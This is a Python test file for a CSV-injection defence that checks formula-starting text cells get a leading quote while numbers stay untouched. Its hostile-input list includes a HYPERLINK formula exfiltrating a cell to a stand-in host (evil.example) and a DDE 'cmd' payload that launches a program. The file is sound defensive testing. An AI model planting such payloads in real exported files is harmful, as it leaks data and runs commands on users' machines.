"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import decimal
import io

import pandas as pd
import pytest

from engine.csv_cells import csv_text, neutralise_frame, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-3",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Cell biology", "3 - 2", "a=b", "", "'quoted", "[1, 2]", "2026-12-07T10:00:00+00:00"]
)
def test_other_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, decimal.Decimal("-1.25"), 0, True, None])
def test_numbers_and_other_values_stay_as_they_are(value):
    assert safe_cell(value) is value


def test_csv_text_neutralises_every_text_cell_and_keeps_numbers():
    rows = [{"title": "=1+1", "size": -3, "note": "-3", "options": ["=x", "y"], "skip": "=z"}]
    back = list(csv.DictReader(io.StringIO(csv_text(rows, ["title", "size", "note", "options"]))))
    assert back == [{"title": "'=1+1", "size": "-3", "note": "'-3", "options": '["=x", "y"]'}]


def test_a_frame_keeps_numeric_columns_and_neutralises_text_columns():
    frame = pd.DataFrame(
        {
            "score": [-1.5, 2.0],
            "xp": [-3, 4],
            "ok": [True, False],
            "stem": ["=2+5", "fine"],
            "title": ["@evil", None],
        }
    )
    out = pd.read_csv(io.StringIO(neutralise_frame(frame).to_csv(index=False)))
    assert list(out["score"]) == [-1.5, 2.0] and list(out["xp"]) == [-3, 4]
    assert list(out["stem"]) == ["'=2+5", "fine"]
    assert out["title"][0] == "'@evil" and pd.isna(out["title"][1])
    assert list(frame["stem"]) == ["=2+5", "fine"]  # the caller's frame is left as it was
